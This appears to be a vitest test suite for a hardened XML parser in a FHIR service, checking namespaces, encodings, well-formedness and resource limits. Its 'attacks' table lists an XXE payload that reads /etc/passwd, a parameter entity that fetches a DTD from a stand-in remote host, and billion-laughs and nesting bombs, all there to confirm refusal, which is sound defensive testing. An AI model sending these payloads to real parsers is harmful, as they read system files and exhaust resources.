import { describe, expect, it } from 'vitest';
import type { Problem } from '../../src/fhir/outcomes.ts';
import { messageErrorCode } from '../../src/xml/errors.ts';
import { parseXml, type XmlDocument } from '../../src/xml/parse.ts';

function parsed(input: Uint8Array | string, opts?: Parameters<typeof parseXml>[1]): XmlDocument {
  const r = parseXml(input, opts);
  if (!r.ok) throw new Error(`expected a parse, got ${JSON.stringify(r.problem)}`);
  return r.value;
}

function refused(input: Uint8Array | string, opts?: Parameters<typeof parseXml>[1]): Problem {
  const r = parseXml(input, opts);
  if (r.ok) throw new Error('expected a refusal');
  return r.problem;
}

const A = 'urn:test:a';
const B = 'urn:test:b';

describe('namespace resolution', () => {
  const variants = {
    defaults: `<R xmlns="${A}"><X xmlns="${B}"><Y>1</Y></X></R>`,
    prefixes: `<a:R xmlns:a="${A}" xmlns:b="${B}"><b:X><b:Y>1</b:Y></b:X></a:R>`,
    oddPrefixes: `<zz9:R xmlns:zz9="${A}"><q:X xmlns:q="${B}"><q:Y>1</q:Y></q:X></zz9:R>`,
    rebound: `<p:R xmlns:p="${A}"><p:X xmlns:p="${B}"><p:Y>1</p:Y></p:X></p:R>`,
    mixed: `<R xmlns="${A}" xmlns:b="${B}"><b:X><Y xmlns="${B}">1</Y></b:X></R>`,
  };

  it.each(Object.entries(variants))('addresses elements by URI and local name whatever the prefix (%s)', (_, xml) => {
    const { root } = parsed(xml);
    expect(root.is(A, 'R')).toBe(true);
    const y = root.child(B, 'X')?.child(B, 'Y');
    expect(y?.text).toBe('1');
    expect(y?.path).toBe('R.X.Y');
    // The same local name in another namespace is a different element.
    expect(root.child(A, 'X')).toBeUndefined();
  });

  it('returns repeated elements as a list, in document order, with indexed paths', () => {
    const { root } = parsed(`<R xmlns="${A}"><I>a</I><J/><I>b</I><I>c</I></R>`);
    expect(root.all(A, 'I').map((e) => e.text)).toEqual(['a', 'b', 'c']);
    expect(root.all(A, 'I').map((e) => e.path)).toEqual(['R.I[0]', 'R.I[1]', 'R.I[2]']);
    expect(root.child(A, 'J')?.path).toBe('R.J');
    expect(root.all(A, 'J')).toHaveLength(1);
  });

  it('reads unprefixed attributes by name and namespaced ones by URI; declarations are not attributes', () => {
    const { root } = parsed(`<R xmlns="${A}" xmlns:b="${B}" V="x" b:V="y"/>`);
    expect(root.attr('V')).toBe('x');
    expect(root.attr('V', B)).toBe('y');
    expect(root.attributes.map((a) => a.name).sort()).toEqual(['V', 'V']);
  });

  it('keeps CDATA and the five XML entities as text, and numeric references as characters', () => {
    const { root } = parsed(`<R>&lt;b&gt; &amp; &quot;q&quot; &apos;s&apos; <![CDATA[<script>x</script>]]> &#x1F48A;&#229;</R>`);
    expect(root.text).toBe(`<b> & "q" 's' <script>x</script> 💊å`);
  });

  it('refuses an unbound prefix', () => {
    const p = refused('<R><q:X/></R>');
    expect(p.status).toBe(400);
    expect(messageErrorCode(p)).toBe('xml-malformed');
    expect(p.issues[0]?.diagnostics).toMatch(/Unbound namespace prefix/);
  });
});

describe('DOCTYPE and entities are refused before and inside the parser', () => {
  const attacks: Record<string, string> = {
    'external entity (XXE)': '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    'parameter entity': '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://angriper.example/p.dtd"> %p;]><r/>',
    'billion laughs': `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;</r>`,
    'harmless doctype': '<!DOCTYPE r><r/>',
    'lower-case doctype': '<!doctype r><r/>',
    'entity declaration without doctype': '<r><!ENTITY x "y"></r>',
  };
  it.each(Object.entries(attacks))('%s -> 400 security', (_, xml) => {
    const p = refused(xml);
    expect(p.status).toBe(400);
    expect(p.issues[0]?.code).toBe('security');
    expect(messageErrorCode(p)).toBe('xml-doctype');
  });

  it('refuses other markup declarations inside the document (defence inside the parser)', () => {
    const p = refused('<r><!ELEMENT x ANY></r>');
    expect(p.issues[0]?.code).toBe('security');
    expect(p.issues[0]?.expression).toEqual(['r']);
  });

  it('knows only the five XML entities: HTML names and undeclared entities are errors', () => {
    // &AMP; too: entity names are case-sensitive, so only &amp; is the ampersand.
    for (const xml of ['<r>&nbsp;</r>', '<r>&copy;</r>', '<r>&xxe;</r>', '<r>&AMP;</r>']) {
      const p = refused(xml);
      expect(messageErrorCode(p)).toBe('xml-malformed');
      expect(p.issues[0]?.diagnostics).toMatch(/^Malformed XML: Undefined entity \(line 1, column \d+\)$/);
    }
  });
});

describe('size and depth limits', () => {
  it('refuses a document over the byte limit with 413 too-costly', () => {
    const big = `<r>${'x'.repeat(2000)}</r>`;
    const p = refused(big, { maxBytes: 1000 });
    expect(p.status).toBe(413);
    expect(p.issues[0]?.code).toBe('too-costly');
    expect(messageErrorCode(p)).toBe('xml-too-large');
  });

  it('measures string input in UTF-8 bytes, not characters', () => {
    const text = `<r>${'ø'.repeat(600)}</r>`; // 607 characters, 1207 bytes
    expect(refused(text, { maxBytes: 1000 }).status).toBe(413);
    expect(parsed(text, { maxBytes: 1300 }).root.text).toHaveLength(600);
  });

  it('has a 5 MB default limit', () => {
    const big = Buffer.alloc(5 * 1024 * 1024 + 1, 0x20);
    big.write('<r>', 0);
    expect(refused(big).status).toBe(413);
  });

  it('refuses nesting deeper than the limit and names where it happened', () => {
    const deep = `<r>${'<a>'.repeat(70)}${'</a>'.repeat(70)}</r>`;
    const p = refused(deep);
    expect(p.status).toBe(400);
    expect(messageErrorCode(p)).toBe('xml-too-deep');
    expect(p.issues[0]?.expression?.[0]).toMatch(/^r(\.a){63}$/);
    expect(parsed(`<r>${'<a>'.repeat(10)}${'</a>'.repeat(10)}</r>`, { maxDepth: 11 }).root.name).toBe('r');
    expect(messageErrorCode(refused(`<r>${'<a>'.repeat(11)}${'</a>'.repeat(11)}</r>`, { maxDepth: 11 }))).toBe('xml-too-deep');
  });

  it('survives a 4 MB single-line nesting bomb without exhausting the stack', () => {
    const bomb = `<r>${'<a>'.repeat(1_300_000)}`;
    expect(messageErrorCode(refused(bomb))).toBe('xml-too-deep');
  });
});

describe('character encodings', () => {
  it('reads UTF-8 with and without a byte order mark', () => {
    const xml = '<?xml version="1.0" encoding="UTF-8"?><r>Bjørn Ålesund</r>';
    expect(parsed(Buffer.from(xml, 'utf8')).root.text).toBe('Bjørn Ålesund');
    expect(parsed(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml, 'utf8')])).root.text).toBe('Bjørn Ålesund');
  });

  it('decodes ISO-8859-1 and Windows-1252 when declared', () => {
    const latin1 = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><r>Bjørn Ålesund</r>', 'latin1');
    expect(parsed(latin1)).toMatchObject({ encoding: 'iso-8859-1', root: { rawText: 'Bjørn Ålesund' } });
    const cp1252 = Buffer.concat([
      Buffer.from('<?xml version="1.0" encoding="windows-1252"?><r>', 'latin1'),
      Buffer.from([0x80, 0x20, 0x93, 0x78, 0x94]),
      Buffer.from('</r>', 'latin1'),
    ]);
    expect(parsed(cp1252).root.text).toBe('€ “x”');
  });

  it('refuses bytes that are not UTF-8 when UTF-8 is declared or implied', () => {
    for (const head of ['<?xml version="1.0" encoding="UTF-8"?>', '']) {
      const bad = Buffer.concat([Buffer.from(`${head}<r>`), Buffer.from([0xc3, 0x28]), Buffer.from('</r>')]);
      const p = refused(bad);
      expect(p.status).toBe(400);
      expect(messageErrorCode(p)).toBe('xml-encoding');
    }
  });

  it('refuses UTF-16 (with or without BOM), unknown encodings and contradicting BOMs', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<r/>', 'utf16le')]);
    const utf16NoBom = Buffer.from('<r/>', 'utf16le');
    const ebcdic = Buffer.from('<?xml version="1.0" encoding="EBCDIC-CP-US"?><r/>');
    const bomButLatin1 = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><r/>')]);
    const asciiWithHighBytes = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="US-ASCII"?><r>'), Buffer.from([0xe6]), Buffer.from('</r>')]);
    for (const input of [utf16, utf16NoBom, ebcdic, bomButLatin1, asciiWithHighBytes]) {
      expect(messageErrorCode(refused(input))).toBe('xml-encoding');
    }
  });

  it('refuses characters XML 1.0 forbids, raw or as references, and unpaired surrogates', () => {
    expect(messageErrorCode(refused('<r>a\u0000b</r>'))).toBe('xml-malformed');
    expect(messageErrorCode(refused('<r>a\u001Fb</r>'))).toBe('xml-malformed');
    expect(messageErrorCode(refused('<r>&#0;</r>'))).toBe('xml-malformed');
    expect(messageErrorCode(refused('<r>&#x1B;</r>'))).toBe('xml-malformed');
    expect(messageErrorCode(refused('<r>&#xD800;</r>'))).toBe('xml-malformed');
    expect(messageErrorCode(refused('<r>&#x110000;</r>'))).toBe('xml-malformed');
    expect(messageErrorCode(refused('<r>\uD800</r>'))).toBe('xml-encoding');
    expect(parsed('<r>tab\tand&#x9;newline&#10;</r>').root.rawText).toBe('tab\tand\tnewline\n');
  });
});

describe('well-formedness', () => {
  const malformed: Record<string, string> = {
    empty: '',
    whitespace: '  \n ',
    'plain text': 'M1 resept',
    json: '{"resourceType":"Bundle"}',
    truncated: '<r><a>',
    'mismatched tags': '<r><a></b></r>',
    'two roots': '<r/><r/>',
    'text after root': '<r/>tail',
    'declaration not first': '<r/><?xml version="1.0"?>',
    'whitespace before declaration': ' <?xml version="1.0"?><r/>',
    'unsupported XML version': '<?xml version="2.0"?><r/>',
    'broken declaration': '<?xml encoding="UTF-8"?><r/>',
    'duplicate attribute': '<r V="C" V="A"/>',
    'duplicate attribute through two prefixes': '<r xmlns:a="urn:x" xmlns:b="urn:x" a:V="C" b:V="A"/>',
    'unquoted attribute': '<r V=C/>',
    'stray ampersand': '<r>a & b</r>',
  };
  it.each(Object.entries(malformed))('%s -> 400 xml-malformed', (_, xml) => {
    const p = refused(xml);
    expect(p.status).toBe(400);
    expect(p.issues[0]?.code).toBe('structure');
    expect(messageErrorCode(p)).toBe('xml-malformed');
  });

  it('reports the line and column of a syntax error and the open element path', () => {
    const p = refused('<r>\n  <a>\n    <b></c>\n  </a>\n</r>');
    expect(p.issues[0]?.diagnostics).toMatch(/line 3, column \d+/);
    expect(p.issues[0]?.expression).toEqual(['r.a.b']);
  });

  it('accepts comments, processing instructions and trailing whitespace around the root', () => {
    const { root } = parsed('<?xml version="1.0"?>\n<!-- c --><?pi x?><r><!-- inside -->t</r>\n<!-- after -->\n');
    expect(root.text).toBe('t');
  });

  it('treats element names that are JavaScript property names as plain names', () => {
    const { root } = parsed('<r><constructor>1</constructor><__proto__ __proto__="x">2</__proto__><_>3</_><toString/></r>');
    expect(root.children.map((c) => [c.name, c.text])).toEqual([
      ['constructor', '1'],
      ['__proto__', '2'],
      ['_', '3'],
      ['toString', ''],
    ]);
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });
});

describe('attribute and namespace-declaration bombs', () => {
  it('refuses an element with more attributes than the limit, naming where', () => {
    const attrs = Array.from({ length: 300 }, (_, i) => `a${i}="x"`).join(' ');
    const r = parseXml(`<root><child ${attrs}/></root>`);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.problem.status).toBe(400);
    expect(messageErrorCode(r.problem)).toBe('xml-too-many-attributes');
    expect(r.problem.issues[0]!.expression).toEqual(['root.child']);
  });

  it('counts namespace declarations too', () => {
    const decls = Array.from({ length: 5000 }, (_, i) => `xmlns:p${i}="urn:x:${i}"`).join(' ');
    const r = parseXml(`<root ${decls}/>`);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(messageErrorCode(r.problem)).toBe('xml-too-many-attributes');
  });

  it('still reads an element with many ordinary attributes under the limit', () => {
    const attrs = Array.from({ length: 40 }, (_, i) => `a${i}="${i}"`).join(' ');
    const r = parseXml(`<root ${attrs}/>`);
    expect(r.ok).toBe(true);
  });
});

describe('element count limit', () => {
  it('refuses a flood of empty elements by count instead of building a huge tree', () => {
    const flood = `<root>${'<a/>'.repeat(60_000)}</root>`;
    const r = parseXml(flood);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(messageErrorCode(r.problem)).toBe('xml-too-many-elements');
  });

  it('takes a caller limit', () => {
    expect(parseXml('<r><a/><b/><c/></r>', { maxElements: 3 }).ok).toBe(false);
    expect(parseXml('<r><a/><b/></r>', { maxElements: 3 }).ok).toBe(true);
  });
});
